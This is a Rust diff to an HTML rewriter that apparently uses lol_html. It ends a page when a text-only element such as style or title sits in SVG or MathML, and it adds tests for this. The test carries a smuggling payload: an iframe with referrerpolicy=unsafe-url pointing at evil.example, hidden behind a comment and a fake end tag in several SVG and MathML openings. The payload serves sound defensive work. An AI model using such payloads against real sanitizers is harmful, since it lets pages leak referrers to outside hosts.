@@ -78,6 +78,8 @@ use super::link::{
 /// holds; a page that needs more is passed on unrewritten from there).
 const MEMORY_LIMIT: usize = 4 * 1024 * 1024;
 
+const HTML_NAMESPACE: &str = "http://www.w3.org/1999/xhtml";
+
 /// HTML's raw-text and escapable-raw-text elements (and `plaintext`):
 /// their content is text in HTML, markup in SVG or MathML.
 const TEXT_ONLY: &str =
@@ -333,6 +335,23 @@ fn text_only(page: &Arc<Page>, el: &mut Element<'_, '_>) -> HandlerResult {
         el.remove();
         return Ok(());
     }
+    // One lol_html reads as SVG or MathML ends the page before it is sent
+    // (fails closed). Its content is markup to lol_html; the browser may
+    // have left SVG where lol_html has not (`<svg/>`, an HTML end tag that
+    // closes the svg), and Chromium's preload scanner reads it as HTML's
+    // text even inside SVG: review 17 hid an `<img referrerpolicy=unsafe-url>`
+    // or a `<meta name=referrer>` behind a `<!--` or in an attribute there,
+    // which the scanner, or the browser's parser, then saw after `</style>`.
+    // lol_html reports an SVG `<title>` as HTML (it is an integration
+    // point) while reading its content as markup: after the first `<svg>`
+    // or `<math>`, any `<title>` ends the page.
+    let svg_title = tag == "title" && page.diverged.load(Ordering::Relaxed);
+    if el.namespace_uri() != HTML_NAMESPACE || svg_title {
+        return Err(format!(
+            "<{tag}> read as SVG or MathML may be text to the browser (URL mode ends the page there)"
+        )
+        .into());
+    }
     if el.can_have_content() {
         page.ambiguous.fetch_add(1, Ordering::Relaxed);
         let page = page.clone();
@@ -573,10 +592,9 @@ mod tests {
             assert!(out.starts_with("<p>before"), "{page}: {out}");
             assert!(!out.contains("evil"), "{page}: {out}");
         }
-        let script = "<script>if (a<b) go('/x')</script><svg><style>.a > .b {}</style></svg><script>go()</script>";
+        let script = "<script>if (a<b) go('/x')</script><svg><rect/></svg><script>go()</script>";
         assert_eq!(all_ways(script), script);
-        let kept =
-            "<svg><style><![CDATA[.a > .b { fill: red }]]></style></svg><a href=\"/x\">x</a>";
+        let kept = "<svg><text><![CDATA[.a > .b { fill: red }]]></text></svg><a href=\"/x\">x</a>";
         assert_eq!(all_ways(kept), kept);
         // In HTML, `<![CDATA[` opens a comment that ends at the first `>`.
         let html = "<p><![CDATA[ x ]]><b>y</b>";
@@ -595,6 +613,53 @@ mod tests {
         assert_eq!(all_ways(two), "<math></math><p>after");
         let one = "<math><annotation-xml encoding=text/html><b>x</b></annotation-xml></math>";
         assert_eq!(all_ways(one), one);
+    }
+
+    /// Review 17: an element named like a text-only one that lol_html
+    /// reads as SVG or MathML holds markup to lol_html and text to the
+    /// browser, where lol_html's SVG outlasts the browser's (a self-closed
+    /// `<svg/>`, an HTML end tag that closes it, a character reference in
+    /// `annotation-xml`'s `encoding`), and to Chromium's preload scanner
+    /// even inside real SVG. The page ends before its start tag.
+    #[test]
+    fn a_text_only_element_read_as_svg_or_mathml_ends_the_page() {
+        let payload =
+            "<!--</NAME><iframe referrerpolicy=unsafe-url src=http://evil.example/></iframe>-->";
+        for name in [
+            "style",
+            "title",
+            "textarea",
+            "xmp",
+            "iframe",
+            "noembed",
+            "noframes",
+            "script",
+            "plaintext",
+        ] {
+            for opening in [
+                "<svg/>",
+                "<math/>",
+                "<b><svg></b>",
+                "<div><svg></div>",
+                "<svg>",
+                "<math>",
+                "<math><annotation-xml encoding=&#116;ext/html>",
+            ] {
+                let page = format!(
+                    "<p>before{opening}<{name}>{}",
+                    payload.replace("NAME", name)
+                );
+                let out = all_ways(&page);
+                assert!(out.starts_with("<p>before"), "{page}: {out}");
+                assert!(!out.contains("evil"), "{page}: {out}");
+                assert!(!out.contains(&format!("<{name}>")), "{page}: {out}");
+            }
+        }
+        // Read as HTML, it is kept (and judged by its text, above).
+        let html = "<svg><rect/></svg><style>.a{}</style><p>x";
+        assert_eq!(all_ways(html), html);
+        let before = "<title>t</title><style>.a{}</style><svg><rect/></svg>";
+        assert_eq!(all_ways(before), before);
     }
 
     #[test]
